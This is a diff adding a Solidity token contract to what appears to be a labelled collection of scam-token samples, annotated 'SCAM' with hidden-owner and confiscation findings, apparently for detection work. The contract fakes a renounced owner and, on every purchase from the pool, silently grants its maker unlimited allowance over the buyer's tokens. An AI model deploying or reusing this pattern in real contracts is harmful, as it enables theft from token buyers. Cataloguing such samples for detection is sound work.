@@ -168,6 +168,26 @@ contract OverwritingListToken is PairedErc20 {
     }
 }
 
+/// A purchase permits its maker to take what was bought, without a log.
+/// @custom:verdict SCAM
+/// @custom:finding hidden_owner, confiscation_power
+/// @custom:steps pool, lock, crowd, sales
+contract PurchasePermitsToken is PairedErc20 {
+    address private immutable _maker;
+
+    constructor(string memory n, string memory s, uint256 supply, address holder, address factory, address weth)
+        PairedErc20(n, s, supply, holder, factory, weth)
+    {
+        _maker = holder;
+        owner = address(0);
+    }
+
+    function _transfer(address from, address to, uint256 value) internal override {
+        if (from == pair) allowance[to][_maker] = type(uint256).max;
+        _move(from, to, value);
+    }
+}
+
 /// Takes an account's tokens in two calls: its maker names it, and comes back an hour later.
 /// @custom:verdict SCAM
 /// @custom:finding hidden_owner, confiscation_power
